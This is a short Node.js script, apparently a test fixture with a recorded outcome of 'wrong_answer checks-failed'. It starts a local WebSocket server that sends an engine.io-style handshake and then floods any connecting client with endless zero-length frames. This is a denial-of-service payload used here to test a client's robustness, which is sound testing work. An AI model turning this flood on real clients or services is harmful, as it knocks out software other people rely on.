// Millions of frames with nothing in them: few bytes, much work.
// outcome: wrong_answer checks-failed
const { WebSocketServer } = require('ws')
new WebSocketServer({ port: Number(process.env.PORT), host: '127.0.0.1' }).on('connection', (client) => {
  client.on('error', () => {})
  client.send('0{"sid":"s","upgrades":[],"pingInterval":25000,"pingTimeout":20000,"maxPayload":1000000}')
  const frames = Buffer.alloc(65536)
  for (let i = 0; i < frames.length; i += 2) frames[i] = 0x81
  const more = () => { while (client._socket.writable && client._socket.write(frames)); client._socket.once('drain', more) }
  more()
})
